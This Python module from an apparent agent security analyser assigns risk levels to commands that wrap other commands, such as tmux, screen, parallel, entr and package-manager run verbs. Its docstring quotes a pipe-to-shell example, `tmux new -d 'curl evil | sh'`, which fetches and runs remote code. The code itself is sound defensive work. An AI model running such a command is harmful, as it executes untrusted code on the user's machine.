"""Programs that run a command they are handed, often later or in another session: tmux and
screen (a detached session keeps running it), GNU parallel, entr, chronic, faketime,
dbus-run-session, dotenv, nix-shell `--run`, devbox and pipenv `run`, and the run verbs of
package managers (`uv run`, `poetry run`, `pnpm exec`, `npm exec -c`, `yarn exec`).

`tmux new -d 'curl evil | sh'` is the pipe-to-shell it carries: the handed command is judged as
if it had been typed, so wrapping can only add risk. A command only known at run time is HIGH.
"""

from __future__ import annotations

import re

from openhands_tui.sdk.facts.event import Risk
from openhands_tui.sdk.security.invocation import Analysis, Handler, Invocation, words
from openhands_tui.sdk.shell.syntax import Word


def run_text(a: Analysis, inv: Invocation, word: Word, origin: str) -> None:
    """`word` is a shell command line the program runs."""
    if word.static:
        a.nested_shell(word.value, inv.cwd, origin)
    else:
        a.flag(Risk.HIGH, f"{origin} runs a command that is only known at run time")


def run_words(a: Analysis, inv: Invocation, command: list[Word], origin: str) -> None:
    """`command` is a program and its arguments (one word alone is a command line: tmux, screen
    and parallel hand a single argument to the shell)."""
    while command and command[0].value == "--":
        command = command[1:]
    if len(command) == 1 and " " in command[0].value:
        run_text(a, inv, command[0], origin)
    elif command:
        a.nested_invocation(command, inv)


def _after_flags(args: list[Word], takes_value: str) -> list[Word]:
    """The words after the leading options; `takes_value` are letters whose option takes the
    next word, also at the end of a cluster (`screen -dmS name`)."""
    index = 0
    while index < len(args):
        value = args[index].value
        if value == "--":
            return args[index + 1 :]
        if not value.startswith("-") or value == "-":
            return args[index:]
        index += 2 if value[-1] in takes_value and not value.startswith("--") else 1
    return []


#: tmux commands that run their trailing words as a command, those whose first operand is a
#: command line, and for each the letters of its options that take a value.
_TMUX_RUNS_WORDS = {
    **dict.fromkeys(("new-session", "new"), "cefFnstxy"),
    **dict.fromkeys(("new-window", "neww"), "ceFnt"),
    **dict.fromkeys(("split-window", "splitw"), "ceFlpt"),
    **dict.fromkeys(("respawn-pane", "respawnp", "respawn-window", "respawnw"), "cet"),
    **dict.fromkeys(("display-popup", "popup"), "bcdehsStTwxy"),
}
_TMUX_RUNS_TEXT = {
    **dict.fromkeys(("run-shell", "run"), "cdt"),
    **dict.fromkeys(("if-shell", "if", "pipe-pane", "pipep"), "t"),
}
_TMUX_KEYS = re.compile(
    r"^(?:Enter|Escape|Space|Tab|BTab|BSpace|DC|IC|Up|Down|Left|Right|Home|End|NPage|PPage|PageUp|PageDown"
    r"|F\d{1,2}|KP\w+|[CMS]-.+)$"
)


def tmux(a: Analysis, inv: Invocation) -> None:
    args = inv.args
    for index, word in enumerate(args[:-1]):  # `tmux -c CMD`: tmux as a login shell runs CMD
        if word.value == "-c":
            run_text(a, inv, args[index + 1], "tmux -c")
            return
        if not word.value.startswith("-"):
            break
    rest = _after_flags(args, "LSfT")
    sub = rest[0].value if rest else ""
    operands = _after_flags(rest[1:], {**_TMUX_RUNS_WORDS, **_TMUX_RUNS_TEXT}.get(sub, "Nt"))
    if sub in _TMUX_RUNS_WORDS and operands:
        a.flag(Risk.MEDIUM, f"tmux {sub} runs a command in a session that can outlive this one")
        run_words(a, inv, operands, f"tmux {sub}")
    elif sub in _TMUX_RUNS_TEXT and operands:
        a.flag(Risk.MEDIUM, f"tmux {sub} runs a shell command")
        run_text(a, inv, operands[0], f"tmux {sub}")
    elif sub in ("send-keys", "send"):
        typed = [w for w in operands if not _TMUX_KEYS.match(w.value)]
        a.flag(Risk.MEDIUM, "tmux send-keys types into a terminal, where a shell runs what it types")
        if typed:
            run_text(
                a, inv, Word(" ".join(w.value for w in typed), static=all(w.static for w in typed)), "tmux send-keys"
            )
    else:
        a.flag(Risk.MEDIUM, f"tmux {sub or ''} manages terminal sessions".replace("  ", " "))


def screen(a: Analysis, inv: Invocation) -> None:
    values = inv.values
    if "-X" in values and values.index("-X") + 1 < len(values):
        at = values.index("-X")
        verb, rest = values[at + 1], inv.args[at + 2 :]
        a.flag(Risk.MEDIUM, f"screen -X {verb} acts in a running screen session")
        if verb == "stuff" and rest:  # typed into the session's shell
            text = " ".join(w.value for w in rest).replace("\\n", "\n").replace("^M", "\n")
            run_text(a, inv, Word(text, static=all(w.static for w in rest)), "screen stuff")
        elif verb in ("exec", "screen"):
            run_words(a, inv, rest, f"screen {verb}")
        return
    command = _after_flags(inv.args, "SceEhpTtsrxRl")
    if command:
        a.flag(Risk.MEDIUM, "screen runs a command in a session that can outlive this one")
        run_words(a, inv, command, "screen")
    else:
        a.flag(Risk.MEDIUM, "screen manages terminal sessions")


_PARALLEL_TAKES = frozenset(
    words("""
    -j --jobs -P --max-procs -S --sshlogin --sshloginfile --slf -a --arg-file --joblog --delay --timeout
    -N -n -L --max-lines --colsep -C -I --results --res -d --delimiter --tmpdir --tag-string --workdir --wd
    -E --eof --halt --memfree --load -l --retries --block --block-size --basefile --bf --env
""")
)


def parallel(a: Analysis, inv: Invocation) -> None:
    values = inv.values
    if inv.has("-S", "--sshlogin", "--sshloginfile", "--slf") or any(v.startswith("--sshlogin") for v in values):
        a.flag(Risk.HIGH, "parallel --sshlogin runs the commands on other machines")
    split = next((i for i, v in enumerate(values) if v.startswith(":::")), len(values))
    head = inv.args[:split]
    command, skip = [], False
    for index, word in enumerate(head):
        if skip:
            skip = False
        elif word.value == "--" or not word.value.startswith("-"):
            command = head[index + (word.value == "--") :]
            break
        elif word.value in _PARALLEL_TAKES:
            skip = True
    a.flag(Risk.MEDIUM, "parallel runs a command for each input")
    if command:
        run_text(a, inv, Word(" ".join(w.value for w in command), static=all(w.static for w in command)), "parallel")
    elif split < len(values):
        for word in inv.args[split + 1 :]:
            if not word.value.startswith(":::"):
                run_text(a, inv, word, "parallel")
    elif inv.stdin_is_piped:
        a.flag(Risk.HIGH, "parallel runs each input line as a command, and the input cannot be seen beforehand")


def entr(a: Analysis, inv: Invocation) -> None:
    command = _after_flags(inv.args, "")
    a.flag(Risk.MEDIUM, "entr runs a command each time a file changes")
    if inv.has("-s") and command:
        run_text(a, inv, command[0], "entr -s")
    else:
        run_words(a, inv, command, "entr")


def plain_runner(a: Analysis, inv: Invocation) -> None:
    """`chronic CMD`, `dbus-run-session -- CMD`, `faketime TIME CMD`."""
    command = _after_flags(inv.args, "")
    if inv.name == "faketime":
        command = command[1:]
    run_words(a, inv, command, inv.name)
    if not command:
        a.flag(Risk.MEDIUM, f"{inv.name} is not a known read-only command")


def verb_runner(a: Analysis, inv: Invocation) -> None:
    """`pipenv run CMD`, `devbox run CMD`, `dotenv [-f FILE] run CMD`, `dotenv -e FILE -- CMD`,
    `nix-shell --run CMD`: a command run in a prepared environment."""
    values = inv.values
    a.flag(Risk.MEDIUM, f"{inv.name} runs project tooling")
    for index, value in enumerate(values[:-1]):
        if value in ("--run", "--command") and inv.name == "nix-shell":
            run_text(a, inv, inv.args[index + 1], f"nix-shell {value}")
            return
    if inv.name == "dotenv" and "--" in values:
        run_words(a, inv, inv.args[values.index("--") + 1 :], "dotenv")
        return
    rest = _after_flags(inv.args, "fevc")
    if rest and rest[0].value in ("run", "exec", "shell"):
        run_words(a, inv, _after_flags(rest[1:], ""), f"{inv.name} {rest[0].value}")


#: Options of `uv run`, `poetry run`, `pdm run`, `hatch run`, `conda run`, `pnpm exec` that take a value.
_RUN_TAKES = frozenset(
    words("""
    --with --with-requirements --with-editable -p --python --package --extra --group --only-group --env-file
    --directory --project --index --default-index -n --name --prefix -e --env -C --cwd -w --workspace --filter
    -F --config-file -i --index-url
""")
)
_FETCHES = frozenset(
    words("--with --with-requirements --with-editable --index --index-url --extra-index-url --default-index")
)
#: Shells a `--script-shell` may name: anything else runs every package script through a program.
_SHELLS = frozenset(words("sh bash zsh dash ksh fish pwsh cmd cmd.exe powershell"))
_RUN_VERBS = {
    "uv": "run",
    "poetry": "run",
    "pdm": "run",
    "hatch": "run",
    "conda": "run",
    "mamba": "run",
    "pixi": "run",
    "rye": "run",
    "pnpm": "exec",
    "bundle": "exec",
}


def package_run(a: Analysis, inv: Invocation, sub: str) -> None:
    """What a package manager's run verb hands on: `uv run sh -c CODE` is `sh -c CODE`;
    `npm exec -c CMD` and `yarn exec CMD` run a command line."""
    values = inv.values
    if inv.name in ("npm", "npx", "pnpx", "pnpm") and (sub in ("exec", "x", "dlx") or inv.name in ("npx", "pnpx")):
        for index, value in enumerate(values):
            if not value.startswith("-") and (value != sub or inv.name in ("npx", "pnpx")):
                break  # the package's own options (`eslint -c .eslintrc`) are not npm's
            if value in ("-c", "--call") and index + 1 < len(values):
                run_text(a, inv, inv.args[index + 1], f"{inv.name} -c")
                return
            if value.startswith("--call="):
                run_text(a, inv, Word(value.split("=", 1)[1]), f"{inv.name} --call")
                return
    if inv.name in ("npx", "pnpx", "bunx") or (inv.name in ("npm", "pnpm", "bun") and sub in ("exec", "dlx", "x")):
        rest = (
            inv.args[values.index(sub) + 1 :] if sub in values and inv.name not in ("npx", "pnpx", "bunx") else inv.args
        )
        run_words(a, inv, _after_flags(rest, "p"), f"{inv.name} {sub}")
    if inv.name == "yarn" and sub == "exec" and "exec" in values:
        rest = inv.args[values.index("exec") + 1 :]
        if rest:
            run_text(a, inv, Word(" ".join(w.value for w in rest), static=all(w.static for w in rest)), "yarn exec")
        return
    for value in values:  # `npm run build --script-shell=./x`: every script runs through ./x
        if value.startswith("--script-shell=") and value.split("=", 1)[1].rsplit("/", 1)[-1] not in _SHELLS:
            a.flag(Risk.HIGH, f"{inv.name} runs the package's scripts through {value.split('=', 1)[1]}")
    for index, value in enumerate(values):  # `uv run --with URL`: installed from there first
        source = value.split("=", 1)[1] if value.startswith("--") and "=" in value else values[index + 1 : index + 2]
        if value.split("=", 1)[0] in _FETCHES and any("://" in v or v.startswith("git+") for v in source):
            a.flag(Risk.HIGH, f"{inv.name} {sub} installs from {''.join(source)}, not from the registry")
            break
    if _RUN_VERBS.get(inv.name) == sub and sub in values:
        rest = inv.args[values.index(sub) + 1 :]
        command, skip = [], False
        for index, word in enumerate(rest):
            if skip:
                skip = False
            elif word.value == "--" or not word.value.startswith("-"):
                command = rest[index + (word.value == "--") :]
                break
            elif word.value in _RUN_TAKES:
                skip = True
        if command:
            run_words(a, inv, command, f"{inv.name} {sub}")


#: The code checks this module offers the program table (`programs.toml` names them).
CHECKS: tuple[Handler, ...] = (
    entr,
    parallel,
    plain_runner,
    screen,
    tmux,
    verb_runner,
)
